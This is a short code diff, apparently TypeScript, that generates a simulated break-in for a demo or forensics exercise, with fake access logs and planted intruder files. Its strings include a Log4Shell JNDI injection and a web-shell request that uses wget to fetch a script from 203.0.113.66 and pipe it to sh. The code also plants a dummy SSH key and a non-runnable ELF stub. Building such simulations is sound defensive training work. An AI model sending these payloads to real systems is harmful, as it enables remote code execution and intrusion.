@@ -84,7 +84,7 @@ function accessLog(): string {
     const request = `GET /cart/${1000 + index} HTTP/1.1`;
     return line(`01:${minute}:${second}`, `198.51.100.${(index % 200) + 1}`, request, '200 1834');
   });
-  const injection = 'GET /cart?item=${jndi:ldap://203.0.113.66:1389/Exploit} HTTP/1.1';
+  const injection = `GET /cart?item=$\{jndi:ldap://203.0.113.66:1389/Exploit} HTTP/1.1`;
   const upload = 'POST /upload.php?cmd=wget%20http://203.0.113.66/k.sh%20-O-%7Csh HTTP/1.1';
   return [
     ...ordinary,
@@ -128,7 +128,8 @@ function intruderFiles(): FileSpec[] {
     mode,
     modified: BROKEN_IN,
   });
-  const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlantedKeyForTheDemoOnlyOpensNothing0000 x@203.0.113.66\n';
+  const key =
+    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlantedKeyForTheDemoOnlyOpensNothing0000 x@203.0.113.66\n';
   // An executable's head and nothing behind it: looks like a program, cannot run.
   const dropped = Buffer.concat([
     Buffer.from('7f454c4602010100', 'hex'),
